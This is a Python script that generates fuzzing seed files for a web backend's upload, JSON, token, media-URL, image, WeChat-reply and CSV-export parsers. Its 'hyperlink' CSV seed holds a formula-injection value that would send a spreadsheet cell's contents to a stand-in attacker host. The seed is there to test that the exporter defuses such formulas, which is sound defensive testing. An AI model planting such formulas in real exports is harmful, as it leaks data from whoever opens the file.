#!/usr/bin/python3
"""Writes the seed corpora under tests/fuzz/corpus/<driver>/ (checked in).

    /usr/bin/python3 tests/fuzz/seeds.py

Seeds are small, real inputs: an upload as wx.uploadFile sends it, the API's
JSON bodies, the routes of the handlers' tables, tokens and media URLs signed
with the test keys of tests/fuzz/fuzz.h, the test JPEG of tests/e2e/data with
EXIF, comments and a progressive copy, small PNGs, replies and pushes in the
shapes WeChat documents. Run it again after a change of format (a token or a
signed URL) and commit the result; libFuzzer's own finds stay in the build
folder. Deterministic: the same files every time.
"""
import base64
import ctypes
import hashlib
import hmac
import json
import os
import re
import shutil
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "tests", "e2e"))
import media_support  # noqa: E402  (test images built byte by byte)

# The test keys of tests/fuzz/fuzz.h.
SESSION_KEYS = {"t1": b"fuzz-session-key-one-0123456789abcdef", "t0": b"fuzz-session-key-old-0123456789abcdef"}
MEDIA_URL_KEY = b"fuzz-media-url-key-0123456789abcdef0123456789"
APPID = "wxfuzzappid"
FAR = 4102444800  # 2100-01-01: still valid for the drivers' clock and time(NULL)
PAST = 1700000000

corpora = {}


def seed(driver, name, data):
    if isinstance(data, str):
        data = data.encode()
    corpora.setdefault(driver, {})[name] = data


# ---- multipart -------------------------------------------------------------------

JPEG = media_support.base_jpeg()
WX_BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def form(boundary, parts, preamble=b"", epilogue=b"\r\n"):
    body = preamble
    for headers, data in parts:
        body += b"--" + boundary.encode() + b"\r\n" + b"".join(h.encode() + b"\r\n" for h in headers) + b"\r\n"
        body += data + b"\r\n"
    return body + b"--" + boundary.encode() + b"--" + epilogue


def file_part(data=JPEG, filename="wxfile://tmp_3f8a2b.jpg", ctype="image/jpeg"):
    return ([f'Content-Disposition: form-data; name="file"; filename="{filename}"', f"Content-Type: {ctype}"], data)


def field(name, value):
    return ([f'Content-Disposition: form-data; name="{name}"'], value.encode())


ct = f"multipart/form-data; boundary={WX_BOUNDARY}"
seed("multipart", "wx_upload_jpeg", ct.encode() + b"\n" + form(WX_BOUNDARY, [file_part()]))
seed("multipart", "wx_upload_with_form_data",
     ct.encode() + b"\n" + form(WX_BOUNDARY, [field("purpose", "repair"), field("note", "卫生间漏水"), file_part()]))
seed("multipart", "quoted_boundary_png", b'multipart/form-data; charset=utf-8; boundary="a b:c"\n' +
     form("a b:c", [file_part(media_support.png_with_text(4, 2), "p.png", "image/png")]))
seed("multipart", "preamble_and_epilogue", b"Multipart/Form-Data;boundary=XyZ\n" +
     form("XyZ", [field("a", "1"), file_part(b"GIF89a")], preamble=b"ignored preamble\r\n", epilogue=b"\r\ntail"))
seed("multipart", "empty_form", b"multipart/form-data; boundary=XyZ\n--XyZ--\r\n")
seed("multipart", "boundary_text_in_data", b"multipart/form-data; boundary=XyZ\n" +
     form("XyZ", [file_part(b"\xff\xd8 --XyZ \r\n--XyZx \r\n--XyZ \t\xff\xd9")]))
seed("multipart", "part_without_headers", b"multipart/form-data; boundary=XyZ\n--XyZ\r\n\r\ndata\r\n--XyZ--")
seed("multipart", "escaped_name", b"multipart/form-data; boundary=XyZ\n" +
     form("XyZ", [([r'content-disposition: form-data; name="fi\"le"; filename="a\\b.jpg"'], b"x")]))
seed("multipart", "unterminated", b"multipart/form-data; boundary=XyZ\n--XyZ\r\n"
     b"Content-Disposition: form-data; name=\"file\"\r\n\r\ndata")
seed("multipart", "seventeen_parts", b"multipart/form-data; boundary=B\n" +
     form("B", [field(f"f{i}", str(i)) for i in range(17)]))
seed("multipart", "not_form_data", b"multipart/mixed; boundary=XyZ\n--XyZ--")

# ---- JSON bodies -----------------------------------------------------------------

bodies = {
    "login": {"code": "C_o_demo_admin"},
    "phone": {"code": "P_13800000001"},
    "lead": {"project_id": 1, "name": "王小明", "phone": "13912345678",
             "interest": {"layout": "三室两厅", "area": "90-110", "budget": "300万"},
             "note": "周末想看房", "channel": "poster", "consent": True},
    "repair": {"unit_id": 1, "category": "waterproofing", "description": "卫生间地漏反水，楼下天花板有水渍",
               "photo_ids": [981, 982], "contact_phone": "13900001111", "preferred_time": "周六上午"},
    "subscriptions": {"accepted": ["TPL_REPAIR_STATUS", "TPL_REWARD"], "rejected": ["TPL_LEAD_ASSIGNED"]},
    "owners_import": {"rows": [{"project": "SKY", "building": "1栋", "unit": "1-101", "name": "张三",
                                "phone": "+86 138-0000-0001", "handover_date": "2024-06-30"}]},
    "lead_stage": {"stage": "visited", "note": None},
    "staff_grant": {"openid": "o_demo_agent", "role": "agent", "project_id": 1},
    "rating": {"score": 5, "comment": "师傅很专业 👍"},
    "reward_rule": {"amount_cents": 100000, "enabled": False},
}
for name, body in bodies.items():
    seed("json", name, json.dumps(body, ensure_ascii=False))
seed("json", "escapes", r'{"s":"\u738b\ud83d\ude00\n\t\"\\\/","n":-0.0e+1,"big":1e400,"i":9007199254740993}')
seed("json", "lone_surrogate_escape", r'{"name":"\ud800x"}')
seed("json", "invalid_utf8_bytes", b'{"name":"\xed\xa0\x80","note":"\xc0\xaf","x":"\xf4\x90\x80\x80"}')
seed("json", "depth_16", "{" + '"a":[' * 15 + "1" + "]" * 15 + "}")
seed("json", "depth_17", "{" + '"a":[' * 16 + "1" + "]" * 16 + "}")
seed("json", "brackets_in_strings", '{"a":"[[[[{{{{","b":"\\"]}"}')
seed("json", "trailing_data", '{"code":"x"} {"code":"y"}')
seed("json", "trailing_nul_and_space", b'{"code":"x"}\0 \r\n')
seed("json", "top_level_array", '[{"code":"x"}]')
seed("json", "duplicate_keys", '{"code":"a","code":1,"code":null}')
seed("json", "unbalanced", '{"a":[1,2}')

# ---- routes ----------------------------------------------------------------------

routes = set()
for fn in sorted(os.listdir(os.path.join(ROOT, "handlers"))):
    if fn.endswith(".c"):
        with open(os.path.join(ROOT, "handlers", fn), encoding="utf-8") as f:
            for method, pattern in re.findall(r'\{"([A-Z]+)", "(/[^"]*)"', f.read()):
                routes.add((method, pattern))
for method, pattern in sorted(routes):
    path = re.sub(r":[a-z_]+", "42", pattern)
    seed("router", f"{method}_{pattern.strip('/').replace('/', '_').replace(':', '')}", f"{method} {path}")
seed("router", "wrong_method", "PATCH /api/v1/repairs")
seed("router", "trailing_slash", "GET /api/v1/repairs/")
seed("router", "long_param", "GET /api/v1/repairs/" + "9" * 140)
seed("router", "empty_segment", "GET /api/v1/repairs//photos")
seed("router", "no_method", "/media/1/thumb")

# ---- session tokens --------------------------------------------------------------


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def token(kid, uid, exp, nonce="AAECAwQFBgcI", key=None):
    msg = f"{kid}.{uid}.{exp}.{nonce}"
    mac = hmac.new(key or SESSION_KEYS[kid], msg.encode(), hashlib.sha256).digest()
    return f"{msg}.{b64url(mac)}"


seed("session_token", "valid_t1", token("t1", 42, FAR))
seed("session_token", "valid_old_key_t0", token("t0", 7, FAR, "zz-_09AZaz12"))
seed("session_token", "expired", token("t1", 42, PAST))
seed("session_token", "unknown_kid", token("k9", 42, FAR, key=b"x" * 32))
seed("session_token", "bad_signature", token("t1", 42, FAR)[:-2] + "AA")
seed("session_token", "uid_zero", token("t1", 0, FAR))
seed("session_token", "nineteen_digits", token("t1", 1234567890123456789, FAR))
seed("session_token", "six_parts", token("t1", 42, FAR) + ".x")
seed("session_token", "empty_parts", "....")

# ---- media URLs ------------------------------------------------------------------


def media_sig(upload_id, variant, exp):
    return hmac.new(MEDIA_URL_KEY, f"{upload_id}/{variant}/{exp}".encode(), hashlib.sha256).hexdigest()


def media(upload_id, variant, exp, sig=None, extra=""):
    return f"/media/{upload_id}/{variant}?exp={exp}&sig={sig or media_sig(upload_id, variant, exp)}{extra}"


seed("media_url", "full", media(981, "full", FAR))
seed("media_url", "thumb", media(982, "thumb", FAR))
seed("media_url", "upper_case_sig", media(981, "full", FAR, media_sig(981, "full", FAR).upper()))
seed("media_url", "percent_encoded", f"/media/981/full?sig=%{ord(media_sig(981, 'full', FAR)[0]):02x}"
     f"{media_sig(981, 'full', FAR)[1:]}&exp={FAR}&x=1")
seed("media_url", "expired", media(981, "full", PAST))
seed("media_url", "other_id", media(982, "full", FAR, media_sig(981, "full", FAR)))
seed("media_url", "bad_variant", media(981, "original", FAR))
seed("media_url", "no_sig", f"/media/981/full?exp={FAR}")
seed("media_url", "exp_sign", media(981, "full", f"+{FAR}", media_sig(981, "full", FAR)))
seed("media_url", "id_overflow", media("99999999999999999999", "full", FAR))

# ---- JPEG and PNG ----------------------------------------------------------------


def jpeg_with(segment, data=JPEG):
    return data[:2] + segment + data[2:]


def segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def progressive(data):
    """The same picture as a progressive JPEG, by libjpeg-turbo's lossless
    transform (TJXOPT_PROGRESSIVE)."""
    tj = ctypes.CDLL("libturbojpeg.so.0")
    tj.tjInitTransform.restype = ctypes.c_void_p

    class Transform(ctypes.Structure):
        _fields_ = [("x", ctypes.c_int), ("y", ctypes.c_int), ("w", ctypes.c_int), ("h", ctypes.c_int),
                    ("op", ctypes.c_int), ("options", ctypes.c_int), ("data", ctypes.c_void_p),
                    ("customFilter", ctypes.c_void_p)]

    handle = tj.tjInitTransform()
    out, size = ctypes.POINTER(ctypes.c_ubyte)(), ctypes.c_ulong(0)
    xf = Transform(options=32)  # TJXOPT_PROGRESSIVE
    rc = tj.tjTransform(ctypes.c_void_p(handle), data, ctypes.c_ulong(len(data)), 1, ctypes.byref(out),
                        ctypes.byref(size), ctypes.byref(xf), 0)
    assert rc == 0, "tjTransform failed"
    result = bytes(out[:size.value])
    tj.tjFree(out)
    tj.tjDestroy(ctypes.c_void_p(handle))
    return result


adobe = segment(0xEE, b"Adobe\0\x64\0\0\0\0\1" + b"extra bytes beyond twelve")
jpegs = {
    "red_blue_64x32": JPEG,
    "exif_orientation_1_gps": media_support.jpeg_with_exif(1),
    "exif_orientation_6_gps": media_support.jpeg_with_exif(6),
    "exif_orientation_8_gps": media_support.jpeg_with_exif(8),
    "comment_xmp_icc": jpeg_with(segment(0xFE, "拍摄于 31.2304N".encode()) +
                                 segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta/>") +
                                 segment(0xE2, b"ICC_PROFILE\0\1\1" + b"\0" * 32)),
    "adobe_app14": jpeg_with(adobe),
    "fill_bytes_and_trailer": JPEG[:2] + b"\xff\xff\xff" + JPEG[2:] + b"second picture appended",
    "progressive": progressive(JPEG),
    "progressive_with_exif": jpeg_with(media_support.exif_segment(3), progressive(JPEG)),
    "truncated": JPEG[: len(JPEG) // 2],
}
for name, data in jpegs.items():
    seed("jpeg_markers", name, data)
    seed("image", "jpeg_" + name, data)


def png(w, h, color_type, bit_depth, pixel, chunks=(), interlace=0):
    raw = b"".join(b"\0" + pixel * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" +
            media_support.png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, bit_depth, color_type, 0, 0, interlace)) +
            b"".join(media_support.png_chunk(k, v) for k, v in chunks) +
            media_support.png_chunk(b"IDAT", zlib.compress(raw)) + media_support.png_chunk(b"IEND", b""))


seed("image", "png_rgb_with_text", media_support.png_with_text())
seed("image", "png_rgba", png(6, 3, 6, 8, b"\x10\x20\x30\x80"))
seed("image", "png_gray16", png(5, 4, 0, 16, b"\x12\x34"))
seed("image", "png_palette_exif", png(4, 4, 3, 8, b"\x01", chunks=[(b"PLTE", b"\0\0\0\xff\0\0"),
                                                                      (b"eXIf", b"MM\0*\0\0\0\x08\0\0")]))
seed("image", "png_bad_crc", media_support.png_with_text()[:-4] + b"\0\0\0\0")
seed("image", "gif", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;")
seed("image", "webp", b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0")
seed("image", "heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic")

# ---- WeChat replies (first byte: endpoint + Content-Type, see the driver) -------

JSON_CT = 8  # byte / 8 % 4 == 1: application/json


def reply(endpoint, body, ctype=JSON_CT):
    return bytes([endpoint + ctype]) + (body if isinstance(body, bytes) else json.dumps(body).encode())


RID = " rid: 6437cc6f-48613c7c-0bdbbd0d"
seed("wechat_reply", "session_ok", reply(0, {"openid": "oUpF8uMuAJO_M2pxb1Q9zNjWeS6o",
                                             "session_key": "tiihtNczf5v6AKRyjwEUhQ==", "unionid": "o6_bmasdasdsad6"}))
seed("wechat_reply", "session_no_errcode_no_openid", reply(0, {"session_key": "x"}))
seed("wechat_reply", "code_invalid", reply(0, {"errcode": 40029, "errmsg": "invalid code" + RID}))
seed("wechat_reply", "errcode_as_string", reply(0, {"errcode": "40163", "errmsg": "code been used, hint: [x]"}))
seed("wechat_reply", "busy", reply(0, {"errcode": -1, "errmsg": "system error" + RID}, 0))
seed("wechat_reply", "phone_ok", reply(1, {"errcode": 0, "errmsg": "ok", "phone_info": {
    "phoneNumber": "13800000001", "purePhoneNumber": "13800000001", "countryCode": "86",
    "watermark": {"timestamp": 1637744274, "appid": APPID}}}))
seed("wechat_reply", "phone_other_appid", reply(1, {"errcode": 0, "errmsg": "ok", "phone_info": {
    "phoneNumber": "+1 4155550100", "purePhoneNumber": "4155550100", "countryCode": 1,
    "watermark": {"timestamp": 1637744274, "appid": "wxother"}}}))
seed("wechat_reply", "subscribe_ok_big_msgid", reply(2, b'{"errcode":0,"errmsg":"ok","msgid":2939203424302252033}'))
seed("wechat_reply", "subscribe_no_quota", reply(2, {"errcode": 43101, "errmsg": "user refuse to accept the msg" + RID}))
seed("wechat_reply", "token_expired", reply(2, {"errcode": 42001, "errmsg": "access_token expired" + RID}))
seed("wechat_reply", "sec_check_ok", reply(3, {"errcode": 0, "errmsg": "ok", "result": {"suggest": "risky", "label": 20001},
                                               "detail": [{"strategy": "content_model", "errcode": 0, "suggest": "risky",
                                                           "label": 20001, "prob": 90}],
                                               "trace_id": "60ae120f-371d5872-7941a05b"}))
seed("wechat_reply", "sec_check_label_string", reply(3, {"errcode": 0, "result": {"suggest": "pass", "label": "100"}}))
seed("wechat_reply", "media_check_ok", reply(4, {"errcode": 0, "errmsg": "ok", "trace_id": "967e945cd8a3e458f3c74dcb886068e9"}))
seed("wechat_reply", "qr_png", reply(5, media_support.png_with_text(2, 2), 16))
seed("wechat_reply", "qr_jpeg_without_type", reply(5, JPEG, 0))
seed("wechat_reply", "qr_error_as_image_type", reply(5, {"errcode": 41030, "errmsg": "invalid page" + RID}, 16))
seed("wechat_reply", "not_json", reply(0, b"<html>502 Bad Gateway</html>", 0))

# ---- pushes (first byte: flags, see the driver) ---------------------------------

v2 = {"ToUserName": "gh_38cd5b4e8e2c", "FromUserName": "oUpF8uMuAJO_M2pxb1Q9zNjWeS6o", "CreateTime": 1714036504,
      "MsgType": "event", "Event": "wxa_media_check", "appid": APPID, "trace_id": "967e945cd8a3e458f3c74dcb886068e9",
      "version": 2, "detail": [{"strategy": "content_model", "errcode": 0, "suggest": "pass", "label": 100, "prob": 90}],
      "errcode": 0, "errmsg": "ok", "result": {"suggest": "pass", "label": 100}}
seed("wechat_push", "media_check_v2", b"\x08" + json.dumps(v2).encode())
seed("wechat_push", "media_check_v2_raw_mode_label_string",
     b"\x01" + json.dumps(dict(v2, result={"suggest": "review", "label": "20002"})).encode())
seed("wechat_push", "media_check_v1_risky", b"\x00" + json.dumps(
    {"ToUserName": "gh_38cd5b4e8e2c", "Event": "wxa_media_check", "isrisky": 1, "extra_info_json": "",
     "appid": APPID, "trace_id": "60ae120f-371d5872-7941a05b", "status_code": 0}).encode())
seed("wechat_push", "media_check_v1_not_downloadable", b"\x00" + json.dumps(
    {"Event": "wxa_media_check", "isrisky": "0", "trace_id": "t-1", "status_code": 4294966288}).encode())
seed("wechat_push", "other_event", b"\x00" + json.dumps(
    {"ToUserName": "gh_38cd5b4e8e2c", "FromUserName": "o_x", "CreateTime": 1714036504, "MsgType": "event",
     "Event": "user_enter_tempsession", "SessionFrom": "wxapp"}).encode())
seed("wechat_push", "safe_mode", b"\x02" + json.dumps(
    {"ToUserName": "gh_38cd5b4e8e2c", "Encrypt": base64.b64encode(b"\0" * 64).decode()}).encode())
seed("wechat_push", "bad_signature", b"\x04" + json.dumps(v2).encode())
seed("wechat_push", "xml_body", b"\x00<xml><Event><![CDATA[wxa_media_check]]></Event></xml>")


# ---- csv ---------------------------------------------------------------------------
# Byte 0: the output bound (64 << (b % 8)); byte 1: which cells are numeric;
# then cells split by 0x00 and rows by 0x01.

seed("csv", "header_and_row", b"\x07\x01" + "编号\0姓名\0电话\x01".encode() + b"42\0\xe5\xbc\xa0*\0138****1234")
seed("csv", "hyperlink", b"\x07\x00" + b'=HYPERLINK("http://evil.example/?x="&A1,"click")\0@SUM(1)\0+86\0-2')
seed("csv", "numeric_negative", b"\x07\xff" + b"-5000.00\0-1+1\0" + b"12\0-\0" + b"1.5")
seed("csv", "quotes_and_newlines", b"\x07\x00" + b'say "hi"\0a,b\0line1\nline2\0a\r\nb\0\rx\0\tx')
seed("csv", "tiny_bound", b"\x00\x00" + b"x" * 80)
seed("csv", "empty", b"\x03\x00")


def main():
    for driver, files in sorted(corpora.items()):
        d = os.path.join(HERE, "corpus", driver)
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
        for name, data in sorted(files.items()):
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        print(f"{d}: {len(files)} seeds")


if __name__ == "__main__":
    main()
